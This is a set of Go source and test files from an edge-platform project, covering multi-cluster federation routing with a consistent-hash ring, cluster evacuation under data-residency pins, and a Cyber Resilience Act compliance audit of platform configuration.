		t.Fatalf("audit carries %d cluster-evacuate summaries, want 1", kinds["cluster-evacuate"])
	}

	if _, err := f.EvacuateCluster("ops", "nope"); !errors.Is(err, ErrClusterNotFound) || !errors.Is(err, orchestrator.ErrNotFound) {
		t.Fatalf("evacuating unknown cluster: %v", err)
	}
}

// TestEvacuatePinnedWithoutRefuge: when the evacuated cluster was the
// pinned tenant's only in-region home, its workloads are reported lost
// — never re-placed across the residency boundary.
func TestEvacuatePinnedWithoutRefuge(t *testing.T) {
	f, _ := newTestFed(t, map[string]string{"edge-a": "west", "edge-b": "east"})
	f.PinTenant("gov", "west")
	if _, pl, err := f.Deploy("ops", testSpec("wl-gov", "gov", "")); err != nil || pl.Cluster != "edge-a" {
		t.Fatalf("pinned deploy: %v (cluster %s)", err, pl.Cluster)
	}
	res, err := f.EvacuateCluster("ops", "edge-a")
	if err != nil {
		t.Fatalf("EvacuateCluster: %v", err)
	}
	if len(res.Moved) != 0 || len(res.Lost) != 1 {
		t.Fatalf("moved %d, lost %d — want the pinned workload lost", len(res.Moved), len(res.Lost))
	}
	east, _ := f.Cluster("edge-b")
	if east.WorkloadCount() != 0 {
		t.Fatal("pinned workload leaked across the region boundary during evacuation")
	}
}

func TestDuplicateAndRemoveCluster(t *testing.T) {
	f, reg := newTestFed(t, map[string]string{"edge-a": "west"})
	err := f.AddCluster("edge-a", "east", testCluster(reg, "edge-a", 1, orchestrator.Resources{CPUMilli: 1000, MemoryMB: 1024}))
	if !errors.Is(err, orchestrator.ErrDuplicateName) {
		t.Fatalf("duplicate AddCluster: %v", err)
	}
	if _, err := f.RemoveCluster("ghost"); !errors.Is(err, ErrClusterNotFound) {
		t.Fatalf("RemoveCluster(ghost): %v", err)
	}
	c, err := f.RemoveCluster("edge-a")
	if err != nil || c == nil {
		t.Fatalf("RemoveCluster: %v", err)
	}
	if len(f.Clusters()) != 0 {
		t.Fatal("cluster still listed after removal")
	}
	// The federation routes nothing to a removed cluster.
	if _, _, err := f.Deploy("ops", testSpec("wl", "acme", "")); !errors.Is(err, orchestrator.ErrNoCapacity) {
		t.Fatalf("deploy into empty federation: %v", err)
	}
}

// TestConcurrentDeployVsRemove races deploys against a cluster removal
// under -race: every successful deploy must exist on exactly one
// cluster, and nothing lands on the removed member after its detach.
func TestConcurrentDeployVsRemove(t *testing.T) {
	f, _ := newTestFed(t, map[string]string{"edge-a": "", "edge-b": "", "edge-c": ""})
	const deploys = 60
	results := make([]string, deploys) // cluster per success, "" otherwise
	var wg sync.WaitGroup
	start := make(chan struct{})
	for i := 0; i < deploys; i++ {
		wg.Add(1)
		go func(i int) {
			defer wg.Done()
			<-start
			if _, pl, err := f.Deploy("ops", testSpec(fmt.Sprintf("wl-%d", i), fmt.Sprintf("tenant-%d", i%7), "")); err == nil {
				results[i] = pl.Cluster
			}
		}(i)
	}
	var removed *orchestrator.Cluster
	wg.Add(1)
	go func() {
		defer wg.Done()
		<-start
		c, err := f.RemoveCluster("edge-b")
		if err != nil {
			t.Errorf("RemoveCluster: %v", err)
			return
		}
		removed = c
	}()
	close(start)
	wg.Wait()

	hold := func(name string) map[string]bool {
		var c *orchestrator.Cluster
		if name == "edge-b" {
			c = removed
		} else {
			c, _ = f.Cluster(name)
		}
		out := map[string]bool{}
		for _, w := range c.Workloads() {
			out[w.Spec.Name] = true
		}
		return out
	}
	held := map[string]map[string]bool{
		"edge-a": hold("edge-a"), "edge-b": hold("edge-b"), "edge-c": hold("edge-c"),
	}
	for i, cl := range results {
		if cl == "" {
			continue
		}
		name := fmt.Sprintf("wl-%d", i)
		count := 0
		for _, ws := range held {
			if ws[name] {
				count++
			}
		}
		if count != 1 {
			t.Fatalf("workload %s exists on %d clusters, want exactly 1", name, count)
		}
		if !held[cl][name] {
			t.Fatalf("workload %s reported on %s but not found there", name, cl)
		}
	}
}

// TestEvacuateVsDeploy races an evacuation against a deploy storm under
// -race: afterwards the evacuated cluster is empty and every successful
// deploy (and every moved workload) lives on exactly one survivor.
func TestEvacuateVsDeploy(t *testing.T) {
	f, _ := newTestFed(t, map[string]string{"edge-a": "", "edge-b": "", "edge-c": ""})
	const deploys = 60
	success := make([]bool, deploys)
	var wg sync.WaitGroup
	start := make(chan struct{})
	for i := 0; i < deploys; i++ {
		wg.Add(1)
		go func(i int) {
			defer wg.Done()
			<-start
			if _, _, err := f.Deploy("ops", testSpec(fmt.Sprintf("wl-%d", i), fmt.Sprintf("tenant-%d", i%7), "")); err == nil {
				success[i] = true
			}
		}(i)
	}
	victimCluster, _ := f.Cluster("edge-b")
	var res *EvacuationResult
	wg.Add(1)
	go func() {
		defer wg.Done()
		<-start
		r, err := f.EvacuateCluster("ops", "edge-b")
		if err != nil {
			t.Errorf("EvacuateCluster: %v", err)
			return
		}
		res = r
	}()
	close(start)
	wg.Wait()

	if res == nil {
		t.Fatal("no evacuation result")
	}
	if len(res.Lost) != 0 {
		t.Fatalf("evacuation lost workloads with spare capacity: %+v", res.Lost)
	}
	if n := victimCluster.WorkloadCount(); n != 0 {
		t.Fatalf("evacuated cluster holds %d workloads — deploys landed after detach", n)
	}
	held := map[string]map[string]bool{}
	for _, m := range f.Clusters() {
		c, _ := f.Cluster(m.Name)
		ws := map[string]bool{}
		for _, w := range c.Workloads() {
			ws[w.Spec.Name] = true
		}
		held[m.Name] = ws
	}
	for i, ok := range success {
		if !ok {
			continue
		}
		name := fmt.Sprintf("wl-%d", i)
		count := 0
		for _, ws := range held {
			if ws[name] {
				count++
			}
		}
		if count != 1 {
			t.Fatalf("workload %s exists on %d surviving clusters, want exactly 1", name, count)
		}
	}
}
