// Package federation routes deployments across many orchestrator
// clusters (regions / OLT sites) through a three-stage hierarchy:
// a per-tenant region filter (data-residency pinning, honored as a hard
// constraint), a consistent-hash ring over the eligible clusters keyed
// by (tenant, image digest) with bounded-load overflow, and finally the
// existing per-cluster filter/score scheduler, which stays untouched.
//
// The ring gives every (tenant, image) pair a stable home cluster — so
// warm slots and verdict caches concentrate where repeat deploys land —
// while the bounded-load rule keeps any single cluster from absorbing a
// hot key: a cluster already past its load bound passes the deploy to
// the next ring position. Membership changes move only the minimal key
// range (the classic consistent-hashing property), which the ring tests
// pin numerically.
package federation

import (
	"fmt"
	"sort"
)

// fnv-1a 64-bit parameters; the ring hashes keys inline so the hot-path
// lookup allocates nothing.
const (
	fnvOffset64 = 14695981039346656037
	fnvPrime64  = 1099511628211
)

// hashKey folds (tenant, digest) into one 64-bit FNV-1a hash without
// concatenating the strings. A zero separator byte keeps the pair
// injective over the concatenation boundary ("ab","c" vs "a","bc").
func hashKey(tenant, digest string) uint64 {
	h := uint64(fnvOffset64)
	for i := 0; i < len(tenant); i++ {
		h ^= uint64(tenant[i])
		h *= fnvPrime64
	}
	h *= fnvPrime64 // separator: fold in a zero byte
	for i := 0; i < len(digest); i++ {
		h ^= uint64(digest[i])
		h *= fnvPrime64
	}
	return h
}

// point is one virtual node on the ring: a hash position owned by a
// member (indexed into Ring.members, so points stay pointer-free).
type point struct {
	hash   uint64
	member int32
}

// Ring is a consistent-hash ring with virtual nodes. Add/Remove rebuild
// the point set (allocation there is fine — membership changes are rare
// control-plane events); Owner and Walk are read-only and safe for
// concurrent use with each other, so the federation publishes a fresh
// ring per membership change and readers never lock.
type Ring struct {
	replicas int
	members  []string
	points   []point
}

// DefaultReplicas is the virtual-node count per member. 128 points per
// cluster keeps the per-member share of a 10k-key sample within a few
// percent of fair, which is what the minimal-disruption test budgets.
const DefaultReplicas = 128

// NewRing builds an empty ring. replicas <= 0 takes DefaultReplicas.
func NewRing(replicas int) *Ring {
	if replicas <= 0 {
		replicas = DefaultReplicas
	}
	return &Ring{replicas: replicas}
}

// Add inserts a member (no-op when already present). The new member's
// virtual nodes claim only their own arcs: every key that does not land
// on one of them keeps its previous owner.
func (r *Ring) Add(member string) {
	for _, m := range r.members {
		if m == member {
			return
		}
	}
	r.members = append(r.members, member)
	sort.Strings(r.members)
	r.rebuild()
}

// Remove deletes a member (no-op when absent). Only keys the member
// owned move — each to the next surviving point on the ring.
func (r *Ring) Remove(member string) {
	for i, m := range r.members {
		if m == member {
			r.members = append(r.members[:i], r.members[i+1:]...)
			r.rebuild()
			return
		}
	}
}

// rebuild recomputes the sorted point set from the member list. Point
// positions depend only on (member, replica), so members keep their
// virtual nodes across unrelated membership changes — the property that
// bounds disruption.
func (r *Ring) rebuild() {
	r.points = r.points[:0]
	for mi, m := range r.members {
		for v := 0; v < r.replicas; v++ {
			h := hashKey(m, fmt.Sprintf("vnode-%d", v))
			r.points = append(r.points, point{hash: h, member: int32(mi)})
		}
	}
	sort.Slice(r.points, func(i, j int) bool {
		if r.points[i].hash != r.points[j].hash {
			return r.points[i].hash < r.points[j].hash
		}
		return r.points[i].member < r.points[j].member
	})
}

// Members returns the member names, sorted.
func (r *Ring) Members() []string {
	out := make([]string, len(r.members))
	copy(out, r.members)
	return out
}

// Len returns the member count.
func (r *Ring) Len() int { return len(r.members) }

// search returns the index of the first point at or after h, wrapping
// to 0 past the end. Hand-rolled binary search keeps the hot path free
// of closure allocations.
func (r *Ring) search(h uint64) int {
	lo, hi := 0, len(r.points)
	for lo < hi {
		mid := int(uint(lo+hi) >> 1)
		if r.points[mid].hash < h {
			lo = mid + 1
		} else {
			hi = mid
		}
	}
	if lo == len(r.points) {
		return 0
	}
	return lo
}

// Owner returns the member owning (tenant, digest) — the first virtual
// node at or clockwise of the key's hash. Zero allocations: this is the
// per-deploy hot path, pinned by TestRingLookupZeroAlloc and
// BenchmarkRingLookup.
func (r *Ring) Owner(tenant, digest string) (string, bool) {
	if len(r.points) == 0 {
		return "", false
	}
	p := r.points[r.search(hashKey(tenant, digest))]
	return r.members[p.member], true
}

// Walk visits the distinct members in ring order starting at the key's
// owner, until visit returns false or every member has been seen. This
// is the bounded-load overflow order: position i+1 is where a deploy
// goes when position i is past its bound or out of capacity. Rings of
// up to 64 members walk allocation-free (a bitmask tracks visited
// members); larger rings fall back to a map.
func (r *Ring) Walk(tenant, digest string, visit func(member string) bool) {
	if len(r.points) == 0 {
		return
	}
	start := r.search(hashKey(tenant, digest))
	remaining := len(r.members)
	if remaining <= 64 {
		var seen uint64
		for i := 0; i < len(r.points) && remaining > 0; i++ {
			p := r.points[(start+i)%len(r.points)]
			if seen&(1<<uint(p.member)) != 0 {
				continue
			}
			seen |= 1 << uint(p.member)
			remaining--
			if !visit(r.members[p.member]) {
				return
			}
		}
		return
	}
	seen := make(map[int32]bool, remaining)
	for i := 0; i < len(r.points) && remaining > 0; i++ {
		p := r.points[(start+i)%len(r.points)]
		if seen[p.member] {
			continue
		}
		seen[p.member] = true
		remaining--
		if !visit(r.members[p.member]) {
			return
		}
	}
}
