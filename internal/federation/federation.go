package federation

import (
	"context"
	"errors"
	"fmt"
	"sort"
	"sync"

	"genio/internal/container"
	"genio/internal/orchestrator"
)

// DefaultLoadFactorPct is the bounded-load factor (percent): a cluster
// may hold at most ceil((total+1) * factor / clusters) workloads before
// the ring passes a deploy to the next position. 125% is the classic
// consistent-hashing-with-bounded-loads setting — tight enough that a
// hot (tenant, image) key cannot swamp its home cluster, loose enough
// that routing stays sticky for warm slots and verdict caches.
const DefaultLoadFactorPct = 125

// Placement records where a federated deploy landed.
type Placement struct {
	Cluster string
	Node    string
	VMID    string
}

// Member is a read-only snapshot of one federated cluster.
type Member struct {
	Name      string
	Region    string
	Nodes     int
	Workloads int
}

// member is the live record: the cluster plus its detach latch. The
// per-member lock is the evacuation barrier — a routed deploy holds it
// shared for the duration of the member's admission pipeline, and
// detaching takes it exclusively, so after EvacuateCluster flips
// detached no new workload can ever land on the dead site (the
// guarantee the no-cross-region-leak invariant leans on).
type member struct {
	name    string
	region  string
	cluster *orchestrator.Cluster

	mu       sync.RWMutex
	detached bool
}

// tryDeploy routes one deploy into the member unless it has been
// detached. The bool reports whether the member accepted the attempt
// (false = detached, caller walks on).
func (m *member) tryDeploy(ctx context.Context, subject string, spec orchestrator.WorkloadSpec, observe func(orchestrator.DeployStage)) (*orchestrator.Workload, orchestrator.Placement, error, bool) {
	m.mu.RLock()
	defer m.mu.RUnlock()
	if m.detached {
		return nil, orchestrator.Placement{}, nil, false
	}
	w, pl, err := m.cluster.DeployObserved(ctx, subject, spec, observe)
	return w, pl, err, true
}

// detach flips the latch, waiting out in-flight deploys first.
func (m *member) detach() {
	m.mu.Lock()
	m.detached = true
	m.mu.Unlock()
}

// Federation owns N named orchestrator clusters and routes every deploy
// through the region filter → consistent-hash ring → per-cluster
// scheduler hierarchy. Safe for concurrent use; the ring is rebuilt and
// republished on every membership change, so lookups never lock it.
type Federation struct {
	mu      sync.RWMutex
	members map[string]*member
	ring    *Ring
	pins    map[string]string // tenant -> pinned region

	registry      *container.Registry
	loadFactorPct int
	audit         orchestrator.AuditSink
	clock         func() int64
}

// New creates an empty federation. The registry resolves image refs to
// digests for ring keys (nil is allowed: routing then keys on the raw
// ref until a registry is attached, which only matters before wiring).
func New(registry *container.Registry) *Federation {
	return &Federation{
		members:       make(map[string]*member),
		ring:          NewRing(DefaultReplicas),
		pins:          make(map[string]string),
		registry:      registry,
		loadFactorPct: DefaultLoadFactorPct,
	}
}

// SetAuditSink installs the audit callback (the platform wires its
// spine publisher). Called outside all federation locks, like the
// cluster's own sink.
func (f *Federation) SetAuditSink(sink orchestrator.AuditSink) {
	f.mu.Lock()
	f.audit = sink
	f.mu.Unlock()
}

// SetClock installs a millisecond time source for audit and evacuation
// stamps.
func (f *Federation) SetClock(now func() int64) {
	f.mu.Lock()
	f.clock = now
	f.mu.Unlock()
}

// SetLoadFactorPct overrides the bounded-load factor (percent, > 100).
func (f *Federation) SetLoadFactorPct(pct int) {
	if pct <= 100 {
		pct = DefaultLoadFactorPct
	}
	f.mu.Lock()
	f.loadFactorPct = pct
	f.mu.Unlock()
}

// AddCluster joins a cluster under a name and region. The ring change
// moves only the minimal key range onto the new member.
func (f *Federation) AddCluster(name, region string, c *orchestrator.Cluster) error {
	if name == "" || c == nil {
		return fmt.Errorf("federation: cluster name and cluster are required")
	}
	f.mu.Lock()
	if _, dup := f.members[name]; dup {
		f.mu.Unlock()
		return &DuplicateClusterError{Cluster: name}
	}
	f.members[name] = &member{name: name, region: region, cluster: c}
	ring := f.rebuildRingLocked()
	_ = ring
	audit, now := f.audit, f.clock
	f.mu.Unlock()
	f.emit(audit, now, orchestrator.AuditEvent{
		Kind: "cluster-join", Node: name, Allowed: true,
		Detail: fmt.Sprintf("region=%s", region),
	})
	return nil
}

// RemoveCluster detaches a cluster administratively and returns it.
// Its workloads are NOT re-placed — that is EvacuateCluster's job; use
// RemoveCluster for planned decommissions where the site drains itself.
// In-flight deploys racing the removal either complete before the
// detach (and stay on the returned cluster) or re-route through the
// ring; none are lost.
func (f *Federation) RemoveCluster(name string) (*orchestrator.Cluster, error) {
	f.mu.Lock()
	m, ok := f.members[name]
	if !ok {
		f.mu.Unlock()
		return nil, &ClusterNotFoundError{Cluster: name}
	}
	delete(f.members, name)
	f.rebuildRingLocked()
	audit, now := f.audit, f.clock
	f.mu.Unlock()
	m.detach()
	f.emit(audit, now, orchestrator.AuditEvent{
		Kind: "cluster-remove", Node: name, Allowed: true,
		Detail: fmt.Sprintf("region=%s workloads=%d", m.region, m.cluster.WorkloadCount()),
	})
	return m.cluster, nil
}

// rebuildRingLocked republishes the ring from the member set. Callers
// hold f.mu.
func (f *Federation) rebuildRingLocked() *Ring {
	ring := NewRing(DefaultReplicas)
	for name := range f.members {
		ring.Add(name)
	}
	f.ring = ring
	return ring
}

// Clusters returns member snapshots sorted by name.
func (f *Federation) Clusters() []Member {
	f.mu.RLock()
	ms := make([]*member, 0, len(f.members))
	for _, m := range f.members {
		ms = append(ms, m)
	}
	f.mu.RUnlock()
	sort.Slice(ms, func(i, j int) bool { return ms[i].name < ms[j].name })
	out := make([]Member, 0, len(ms))
	for _, m := range ms {
		out = append(out, Member{
			Name:      m.name,
			Region:    m.region,
			Nodes:     len(m.cluster.Nodes()),
			Workloads: m.cluster.WorkloadCount(),
		})
	}
	return out
}

// Cluster returns the named member cluster.
func (f *Federation) Cluster(name string) (*orchestrator.Cluster, bool) {
	f.mu.RLock()
	defer f.mu.RUnlock()
	m, ok := f.members[name]
	if !ok {
		return nil, false
	}
	return m.cluster, true
}

// Region returns the named member's region.
func (f *Federation) Region(name string) (string, bool) {
	f.mu.RLock()
	defer f.mu.RUnlock()
	m, ok := f.members[name]
	if !ok {
		return "", false
	}
	return m.region, true
}

// PinTenant pins a tenant's workloads to a region (data residency).
// The pin is a hard constraint on every subsequent placement, including
// evacuations: a pinned workload that cannot fit inside its region is
// lost, never leaked across the boundary.
func (f *Federation) PinTenant(tenant, region string) {
	f.mu.Lock()
	if region == "" {
		delete(f.pins, tenant)
	} else {
		f.pins[tenant] = region
	}
	f.mu.Unlock()
}

// PinnedRegion reports a tenant's pin.
func (f *Federation) PinnedRegion(tenant string) (string, bool) {
	f.mu.RLock()
	defer f.mu.RUnlock()
	r, ok := f.pins[tenant]
	return r, ok
}

// Pins returns a copy of the tenant→region pin table.
func (f *Federation) Pins() map[string]string {
	f.mu.RLock()
	defer f.mu.RUnlock()
	out := make(map[string]string, len(f.pins))
	for t, r := range f.pins {
		out[t] = r
	}
	return out
}

// resolveDigest maps an image ref to its digest for the ring key. An
// unresolvable ref keys on itself — routing stays deterministic and the
// chosen cluster's own pull produces the canonical typed error.
func (f *Federation) resolveDigest(ref string) string {
	if f.registry == nil {
		return ref
	}
	img, err := f.registry.Pull(ref)
	if err != nil {
		return ref
	}
	return img.Digest()
}

// Deploy routes a workload through the federation hierarchy. Wrapper
// over DeployObserved with a background context and no observer.
func (f *Federation) Deploy(subject string, spec orchestrator.WorkloadSpec) (*orchestrator.Workload, Placement, error) {
	return f.DeployObserved(context.Background(), subject, spec, nil)
}

// DeployObserved routes one deploy: region filter (hard residency
// constraint), then the consistent-hash ring over the eligible clusters
// keyed by (tenant, image digest) with bounded-load overflow, then the
// chosen cluster's own filter/score scheduler. A cluster past its load
// bound — or out of node capacity — passes the deploy to the next ring
// position; content- and spec-determined rejections (admission denial,
// quota, RBAC, duplicate name) are final at the first cluster, since
// every cluster would return the same verdict.
func (f *Federation) DeployObserved(ctx context.Context, subject string, spec orchestrator.WorkloadSpec, observe func(orchestrator.DeployStage)) (*orchestrator.Workload, Placement, error) {
	f.mu.RLock()
	region := spec.Region
	if pin, pinned := f.pins[spec.Tenant]; pinned {
		if region != "" && region != pin {
			f.mu.RUnlock()
			return nil, Placement{}, &RegionPinnedError{
				Workload: spec.Name, Tenant: spec.Tenant, Region: pin, Requested: region,
			}
		}
		region = pin
	}
	ring := f.ring
	eligible := make(map[string]*member, len(f.members))
	for name, m := range f.members {
		if region == "" || m.region == region {
			eligible[name] = m
		}
	}
	factor := f.loadFactorPct
	audit, now := f.audit, f.clock
	f.mu.RUnlock()

	if len(eligible) == 0 {
		return nil, Placement{}, &FederationCapacityError{
			Workload: spec.Name, Tenant: spec.Tenant, Region: region,
		}
	}

	// Bounded load: ceil((total+1) * factor / n). Pigeonhole guarantees
	// at least one eligible cluster sits under the bound, so the bound
	// itself never strands a deploy — only real capacity can.
	total := 0
	for _, m := range eligible {
		total += m.cluster.WorkloadCount()
	}
	bound := ((total+1)*factor + 100*len(eligible) - 1) / (100 * len(eligible))

	digest := f.resolveDigest(spec.ImageRef)
	var (
		placed     *orchestrator.Workload
		at         Placement
		overflowed int
		lastErr    error
		hardErr    error
	)
	ring.Walk(spec.Tenant, digest, func(name string) bool {
		m := eligible[name]
		if m == nil {
			return true // other region, or joined after the snapshot
		}
		if m.cluster.WorkloadCount() >= bound {
			overflowed++
			return true // past its load bound: pass to the next position
		}
		w, pl, err, live := m.tryDeploy(ctx, subject, spec, observe)
		if !live {
			return true // detached under us: walk on
		}
		switch {
		case err == nil:
			placed = w
			at = Placement{Cluster: name, Node: pl.Node, VMID: pl.VMID}
			return false
		case errors.Is(err, orchestrator.ErrNoCapacity):
			lastErr = err
			overflowed++
			return true // cluster full: overflow like a bounded-load pass
		default:
			hardErr = err
			return false
		}
	})

	switch {
	case placed != nil:
		f.emit(audit, now, orchestrator.AuditEvent{
			Kind: "federation-place", Workload: spec.Name, Tenant: spec.Tenant,
			Node: at.Cluster, Allowed: true,
			Detail: fmt.Sprintf("region=%s node=%s overflow=%d", regionLabel(region), at.Node, overflowed),
		})
		return placed, at, nil
	case hardErr != nil:
		return nil, Placement{}, hardErr
	default:
		return nil, Placement{}, &FederationCapacityError{
			Workload: spec.Name, Tenant: spec.Tenant, Region: region,
			Clusters: len(eligible), Err: lastErr,
		}
	}
}

// Move records one workload the evacuation re-placed.
type Move struct {
	Workload string `json:"workload"`
	Tenant   string `json:"tenant"`
	To       string `json:"to"`   // target cluster
	Node     string `json:"node"` // target node
}

// LostWorkload records one workload the evacuation could not re-place
// without violating residency or capacity.
type LostWorkload struct {
	Workload string `json:"workload"`
	Reason   string `json:"reason"`
}

// EvacuationResult reports a cluster evacuation.
type EvacuationResult struct {
	Cluster string         `json:"cluster"`
	Moved   []Move         `json:"moved,omitempty"`
	Lost    []LostWorkload `json:"lost,omitempty"`
	AtMs    int64          `json:"atMs"`
}

// EvacuateCluster handles a failed site: the cluster is removed from
// the federation (the ring drops its key range onto the survivors), its
// in-flight deploys are waited out, and every workload it held is
// re-placed through the same ring with the dead site gone — region pins
// still hard, so a pinned workload with no surviving in-region capacity
// is reported lost rather than leaked across the boundary. Re-placement
// runs the survivors' full deploy pipeline under subject, so admission,
// RBAC, and quota accounting stay exact: no capacity or quota leaks on
// either side. Every move and loss lands on the audit spine.
func (f *Federation) EvacuateCluster(subject, name string) (*EvacuationResult, error) {
	f.mu.Lock()
	m, ok := f.members[name]
	if !ok {
		f.mu.Unlock()
		return nil, &ClusterNotFoundError{Cluster: name}
	}
	delete(f.members, name)
	f.rebuildRingLocked()
	audit, now := f.audit, f.clock
	f.mu.Unlock()

	// Wait out deploys already routed into the dead member; everything
	// that lands before the latch flips is captured in the snapshot
	// below, everything after re-routes through the rebuilt ring.
	m.detach()

	victims := m.cluster.Workloads() // sorted by name: deterministic order
	res := &EvacuationResult{Cluster: name, AtMs: f.nowWith(now)}
	for _, wl := range victims {
		spec := wl.Spec
		// The site is dead: retire the workload there first so the
		// evacuated cluster's own accounting releases its capacity.
		if err := m.cluster.Stop(spec.Name); err != nil && !errors.Is(err, orchestrator.ErrNotFound) {
			res.Lost = append(res.Lost, LostWorkload{Workload: spec.Name,
				Reason: fmt.Sprintf("stop on dead cluster: %v", err)})
			continue
		}
		w, pl, err := f.Deploy(subject, spec)
		if err != nil {
			res.Lost = append(res.Lost, LostWorkload{Workload: spec.Name, Reason: err.Error()})
			f.emit(audit, now, orchestrator.AuditEvent{
				Kind: "evacuation", Workload: spec.Name, Tenant: spec.Tenant, Node: name,
				Allowed: false, Detail: fmt.Sprintf("lost: %v", err),
			})
			continue
		}
		res.Moved = append(res.Moved, Move{
			Workload: w.Spec.Name, Tenant: w.Spec.Tenant, To: pl.Cluster, Node: pl.Node,
		})
		f.emit(audit, now, orchestrator.AuditEvent{
			Kind: "evacuation", Workload: spec.Name, Tenant: spec.Tenant, Node: pl.Cluster,
			Allowed: true, Detail: fmt.Sprintf("from=%s to=%s node=%s", name, pl.Cluster, pl.Node),
		})
	}
	f.emit(audit, now, orchestrator.AuditEvent{
		Kind: "cluster-evacuate", Node: name, Allowed: true,
		Detail: fmt.Sprintf("%d moved, %d lost", len(res.Moved), len(res.Lost)),
	})
	return res, nil
}

// emit publishes one audit event outside all federation locks.
func (f *Federation) emit(audit orchestrator.AuditSink, now func() int64, ev orchestrator.AuditEvent) {
	if audit == nil {
		return
	}
	ev.AtMs = f.nowWith(now)
	audit(ev)
}

func (f *Federation) nowWith(now func() int64) int64 {
	if now == nil {
		return 0
	}
	return now()
}

func regionLabel(region string) string {
	if region == "" {
		return "any"
	}
	return region
}
