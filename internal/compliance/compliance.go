// Package compliance maps the GENIO mitigations onto the regulatory
// drivers the paper names — the European Cyber Resilience Act (CRA) and CE
// marking — and audits a live platform configuration against them.
//
// The paper: "One of the main objectives of the GENIO project is to align
// the platform with security regulations, such as the European Cyber
// Resilience Act and CE marking certification. This objective shaped the
// platform by guiding threat mitigations." This package makes that shaping
// explicit: each CRA essential requirement lists the platform controls that
// satisfy it, and Audit reports which requirements a given core.Config
// actually meets.
package compliance

import (
	"fmt"
	"sort"
	"strings"

	"genio/internal/core"
	"genio/internal/pon"
)

// Requirement is one essential cybersecurity requirement, patterned on
// CRA Annex I.
type Requirement struct {
	ID          string `json:"id"`
	Description string `json:"description"`
	// Mitigations are the M-IDs that together satisfy the requirement.
	Mitigations []string `json:"mitigations"`
	// Check inspects the live configuration.
	Check func(cfg core.Config) bool `json:"-"`
}

// Status of one requirement in an audit.
type Status struct {
	Requirement Requirement `json:"requirement"`
	Satisfied   bool        `json:"satisfied"`
}

// Report is a full audit outcome.
type Report struct {
	Statuses []Status `json:"statuses"`
}

// Satisfied counts met requirements.
func (r *Report) Satisfied() int {
	n := 0
	for _, s := range r.Statuses {
		if s.Satisfied {
			n++
		}
	}
	return n
}

// Gaps returns unmet requirements sorted by ID.
func (r *Report) Gaps() []Requirement {
	var out []Requirement
	for _, s := range r.Statuses {
		if !s.Satisfied {
			out = append(out, s.Requirement)
		}
	}
	sort.Slice(out, func(i, j int) bool { return out[i].ID < out[j].ID })
	return out
}

// Render formats the report.
func (r *Report) Render() string {
	var b strings.Builder
	fmt.Fprintf(&b, "CRA essential-requirement audit: %d/%d satisfied\n\n",
		r.Satisfied(), len(r.Statuses))
	for _, s := range r.Statuses {
		mark := "MISSING"
		if s.Satisfied {
			mark = "ok"
		}
		fmt.Fprintf(&b, "  [%-7s] %-8s %s (via %s)\n", mark, s.Requirement.ID,
			s.Requirement.Description, strings.Join(s.Requirement.Mitigations, ","))
	}
	return b.String()
}

// CRARequirements returns the CRA Annex-I-style catalogue as the GENIO
// project interpreted it for a PON edge platform.
func CRARequirements() []Requirement {
	return []Requirement{
		{
			ID:          "CRA-1",
			Description: "Products made available without known exploitable vulnerabilities",
			Mitigations: []string{"M8", "M12"},
			Check:       func(c core.Config) bool { return c.VulnManagement },
		},
		{
			ID:          "CRA-2",
			Description: "Secure by default configuration",
			Mitigations: []string{"M1", "M2", "M11"},
			Check: func(c core.Config) bool {
				return c.HardenOS && c.ClusterSettings.RBACEnabled && !c.ClusterSettings.AnonymousAuth
			},
		},
		{
			ID:          "CRA-3",
			Description: "Protection from unauthorised access (authentication, identity management)",
			Mitigations: []string{"M4", "M10"},
			Check: func(c core.Config) bool {
				return c.PONMode == pon.ModeAuthenticated && c.RBACEnabled
			},
		},
		{
			ID:          "CRA-4",
			Description: "Confidentiality of stored and transmitted data (encryption at rest and in transit)",
			Mitigations: []string{"M3", "M6"},
			Check: func(c core.Config) bool {
				return c.PONMode != pon.ModePlaintext && c.SealedStorage &&
					c.ClusterSettings.TLSOnAPIServer && c.ClusterSettings.EtcdEncryption
			},
		},
		{
			ID:          "CRA-5",
			Description: "Integrity of software, firmware and configuration (tamper protection)",
			Mitigations: []string{"M5", "M7", "M9"},
			Check: func(c core.Config) bool {
				return c.SecureBoot && c.FIMEnabled
			},
		},
		{
			ID:          "CRA-6",
			Description: "Secure updates with integrity verification",
			Mitigations: []string{"M9"},
			Check:       func(c core.Config) bool { return c.VerifyImageSignatures },
		},
		{
			ID:          "CRA-7",
			Description: "Minimised attack surfaces, including external interfaces",
			Mitigations: []string{"M1", "M10", "M11"},
			Check: func(c core.Config) bool {
				return c.HardenOS && !c.ClusterSettings.AllowPrivileged
			},
		},
		{
			ID:          "CRA-8",
			Description: "Protection of availability of essential functions (resilience to DoS)",
			Mitigations: []string{"M17"},
			Check:       func(c core.Config) bool { return c.TenantQuotas },
		},
		{
			ID:          "CRA-9",
			Description: "Security-relevant event recording and monitoring",
			Mitigations: []string{"M7", "M18"},
			Check: func(c core.Config) bool {
				return c.RuntimeMonitoring && c.ClusterSettings.AuditLoggingEnabled
			},
		},
		{
			ID:          "CRA-10",
			Description: "Limitation and isolation of incident impact (sandboxing, segmentation)",
			Mitigations: []string{"M17"},
			Check: func(c core.Config) bool {
				return c.SandboxEnabled && c.ClusterSettings.NetworkPoliciesOn
			},
		},
	}
}

// Audit evaluates the configuration against every requirement.
func Audit(cfg core.Config) *Report {
	reqs := CRARequirements()
	rep := &Report{Statuses: make([]Status, 0, len(reqs))}
	for _, r := range reqs {
		rep.Statuses = append(rep.Statuses, Status{Requirement: r, Satisfied: r.Check(cfg)})
	}
	return rep
}
