package compliance

import (
	"strings"
	"testing"

	"genio/internal/core"
	"genio/internal/threatmodel"
)

func TestSecureConfigSatisfiesAll(t *testing.T) {
	rep := Audit(core.SecureConfig())
	if gaps := rep.Gaps(); len(gaps) != 0 {
		t.Fatalf("secure config has CRA gaps: %+v", gaps)
	}
	if rep.Satisfied() != len(CRARequirements()) {
		t.Fatalf("Satisfied = %d, want %d", rep.Satisfied(), len(CRARequirements()))
	}
}

func TestLegacyConfigFailsMost(t *testing.T) {
	rep := Audit(core.LegacyConfig())
	if rep.Satisfied() != 0 {
		t.Fatalf("legacy config satisfies %d requirements; audit too lax", rep.Satisfied())
	}
}

func TestPartialConfigPartialCompliance(t *testing.T) {
	cfg := core.LegacyConfig()
	cfg.VulnManagement = true // CRA-1 only
	rep := Audit(cfg)
	if rep.Satisfied() != 1 {
		t.Fatalf("Satisfied = %d, want 1", rep.Satisfied())
	}
	var cra1 bool
	for _, s := range rep.Statuses {
		if s.Requirement.ID == "CRA-1" && s.Satisfied {
			cra1 = true
		}
	}
	if !cra1 {
		t.Fatal("CRA-1 not satisfied by vuln management")
	}
}

